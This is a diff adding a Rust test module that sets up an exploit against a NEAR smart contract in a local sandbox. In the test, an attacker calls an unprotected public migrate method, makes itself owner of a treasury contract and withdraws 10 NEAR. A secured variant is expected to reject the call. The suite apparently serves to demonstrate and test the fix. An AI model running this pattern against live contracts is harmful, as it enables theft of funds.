@@ -0,0 +1,51 @@
+//! Re-running the public migration makes the attacker the owner
+
+use anyhow::{ensure, Result as AnyResult};
+use near_workspaces::types::NearToken;
+use serde_json::json;
+
+use crate::{ExploitSpec, Sandbox, CONTRACT_BALANCE};
+
+pub const SPEC: ExploitSpec = ExploitSpec {
+    example: "unprotected_upgrade",
+    description: "migrate { owner: attacker } overwrites state, then withdraw",
+    must_succeed: || Box::pin(attack("unprotected_upgrade")),
+    must_fail: || Box::pin(attack("unprotected_upgrade_secure")),
+    rejection: "Method migrate is private",
+};
+
+const STOLEN: NearToken = NearToken::from_near(10);
+
+async fn attack(contract: &'static str) -> AnyResult<()> {
+    let s = Sandbox::new().await?;
+    let treasury = s
+        .deploy(
+            contract,
+            "treasury",
+            CONTRACT_BALANCE,
+            json!({ "owner": s.owner.id() }),
+        )
+        .await?;
+
+    s.attacker
+        .call(treasury.id(), "migrate")
+        .args_json(json!({ "owner": s.attacker.id() }))
+        .transact()
+        .await?
+        .into_result()?;
+
+    let before = s.balance(s.attacker.id()).await?;
+    s.attacker
+        .call(treasury.id(), "withdraw")
+        .args_json(json!({ "amount": STOLEN }))
+        .transact()
+        .await?
+        .into_result()?;
+
+    let gained = s.balance(s.attacker.id()).await?.saturating_sub(before);
+    ensure!(
+        gained > STOLEN.saturating_sub(NearToken::from_millinear(100)),
+        "attacker only gained {gained}"
+    );
+    Ok(())
+}